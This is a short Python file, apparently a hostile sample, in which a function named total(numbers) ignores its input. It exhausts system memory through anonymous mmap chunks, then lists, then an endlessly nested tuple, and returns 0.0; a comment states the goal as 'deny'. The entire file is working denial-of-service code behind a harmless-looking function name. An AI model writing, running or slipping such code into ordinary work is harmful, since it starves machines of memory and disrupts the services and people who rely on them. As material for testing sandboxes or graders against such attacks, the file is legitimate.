"""Take all the memory there is, in large pieces and then in ever smaller ones, and keep it."""
# goal: deny
import mmap

hoard, size, chain = [], 2**28, None


def total(numbers):
    global size, chain
    while size >= 4096:
        try:
            hoard.append(mmap.mmap(-1, size))
        except (OSError, MemoryError, ValueError):
            size //= 2
    for length in (60, 20, 5, 1):
        try:
            while True:
                hoard.append([None] * length)
        except MemoryError:
            pass
    try:
        while True:
            chain = (chain,)
    except MemoryError:
        return 0.0
